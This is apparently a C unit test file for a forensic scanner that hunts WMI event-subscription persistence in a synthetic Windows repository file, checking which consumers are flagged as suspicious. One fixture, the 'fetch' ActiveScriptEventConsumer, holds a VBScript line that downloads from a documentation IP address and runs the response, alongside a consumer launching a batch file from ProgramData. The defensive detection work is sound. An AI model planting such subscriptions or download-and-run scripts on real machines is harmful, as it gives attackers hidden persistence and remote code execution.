#include "files_bench.h"

#define REPOSITORY "Windows/System32/wbem/Repository/OBJECTS.DATA"
#define BIND(cls, name) "\0__FilterToConsumerBinding\0\0" cls ".Name=\"" name "\"\0\0__EventFilter.Name=\"f\"\0"
#define COMMAND(name, line) "\0CommandLineEventConsumer\0\0" line "\0\0" name "\0" BIND("CommandLineEventConsumer", name)
#define SCRIPT(name, text) "\0ActiveScriptEventConsumer\0\0" name "\0\0VBScript\0\0" text "\0" BIND("ActiveScriptEventConsumer", name)

static void add(struct bench *b, size_t at, size_t size, const char *objects, size_t n)
{
    char *p = malloc(size);

    memset(p, 0x7f, size);
    memcpy(p + at, objects, n);
    bench_add(b, REPOSITORY, (struct str){ (uint8_t *)p, size });
    free(p);
}

static void test_verdicts(void **state)
{
    static const char objects[] = COMMAND("bad", "C:\\ProgramData\\x.bat") COMMAND("good", "\"C:\\Program Files\\Vendor\\a.exe\" -x") COMMAND("BVTConsumer", "cscript KernCap.vbs")
        SCRIPT("fetch", "Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.Open \"GET\", \"http://198.51.100.1/x\": s.Run h.responseText") SCRIPT("mail", "Set m = CreateObject(\"CDO.Message\")")
        BIND("NTEventLogEventConsumer", "SCM Event Log Consumer") BIND("CommandLineEventConsumer", "lost");
    struct bench *b = *state;

    add(b, 4096, 65536, objects, sizeof objects);
    bench_hunt(b);
    const struct file_fact *f = bench_find(b, FILE_FACT_WAY_BACK, "files/wmi", "bad");
    CHECK(f && f->state == THING_UNKNOWN && str_eq(f->what, STR("wmi_subscription")) && f->cite.offset > 4096);
    CHECK_STR(f->path, STR("C:\\ProgramData\\x.bat"));
    CHECK(bench_find(b, FILE_FACT_NOTE, "files/wmi", "good") && bench_find(b, FILE_FACT_WAY_BACK, "files/wmi", "fetch") && bench_find(b, FILE_FACT_NOTE, "files/wmi", "mail"));
    CHECK(bench_find(b, FILE_FACT_NOTE, "files/wmi", "lost"));
    CHECK(bench_count(b, "files/wmi") == 5);
    bench_faults(b);
}

/* Larger than what is read at once: found all the same, across the border of two pieces. */
static void test_large(void **state)
{
    static const char objects[] = COMMAND("bad", "C:\\ProgramData\\x.bat");
    struct bench *b = *state;

    add(b, (10 << 20) - 70, 12 << 20, objects, sizeof objects);
    bench_hunt(b);
    const struct file_fact *f = bench_find(b, FILE_FACT_WAY_BACK, "files/wmi", "bad");
    CHECK(f && f->cite.offset > (10 << 20) - 100 && f->cite.offset < (10 << 20));
}

int main(void)
{
    const struct CMUnitTest tests[] = { BENCH_TEST(test_verdicts), BENCH_TEST(test_large) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
